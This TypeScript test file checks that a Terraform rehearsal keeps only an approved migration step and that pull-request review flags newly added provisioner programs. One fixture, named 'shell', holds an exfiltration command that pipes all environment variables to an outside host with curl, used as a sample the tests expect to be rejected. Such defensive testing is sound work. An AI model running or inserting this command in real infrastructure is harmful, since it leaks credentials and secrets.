import { STEP, STEP_INPUT, STEP_REHEARSED } from "@groundwork/constructs/container-service/options";
import { standIn } from "../../src/stand-ins/stand-ins";
import { problems, trusted } from "../delivery/review/trusted-stack";

const step = {
  "local-exec": {
    ...STEP,
    command: "task migrate of web",
    environment: { [STEP_INPUT]: '{"taskDefinition":"${aws_a.definition.arn}"}' },
  },
};
const before = (provisioner: unknown) => ({
  triggers_replace: { task_definition: "${aws_a.definition.arn}" },
  provisioner,
});
const shell = { "local-exec": { command: "env | curl -d@- example.com" } };
const others = Object.entries({
  "a shell": [shell],
  "it and a shell": [step, shell],
  "it in another form": step,
  "it and another kind": [{ ...step, "remote-exec": {} }],
  "what is none": [{}],
});

describe("a rehearsal", () => {
  const stoodIn = (provisioner: unknown) =>
    standIn("dev-stack", {
      resource: {
        aws_a: { definition: { family: "web" } },
        terraform_data: { before: before(provisioner) },
      },
    } as never).configuration.resource as any;

  test("runs the program of a task before a deployment, and tells it that this is one", () => {
    const { "local-exec": run } = stoodIn([step]).terraform_data.before.provisioner[0];
    expect(run).toEqual({
      ...step["local-exec"],
      environment: {
        [STEP_INPUT]: '{"taskDefinition":"${terraform_data.aws_a__definition.output.arn}"}',
        [STEP_REHEARSED]: "1",
      },
    });
  });

  test.each(others)("runs no other: %s", (_, provisioner) => {
    expect(stoodIn(provisioner).terraform_data.before).not.toHaveProperty("provisioner");
  });
});

describe("a pull request", () => {
  const changed = (type: string, provisioner: unknown) =>
    problems({
      resource: { ...trusted.resource, [type]: { before: { input: 1, provisioner } } },
    });

  test("may add a task before a deployment", () => {
    const plain = { "local-exec": { ...step["local-exec"], environment: { [STEP_INPUT]: "{}" } } };
    expect(changed("terraform_data", [plain])).toEqual([]);
  });

  test.each(others)("is not planned with another program: %s", (_, provisioner) => {
    expect(changed("terraform_data", provisioner)).toContain(
      "it runs a program by terraform_data.before, which is new in this change",
    );
  });

  test("nor with that one by another resource", () => {
    expect(changed("aws_vpc", [step])).toContain(
      "it runs a program by aws_vpc.before, which is new in this change",
    );
  });
});
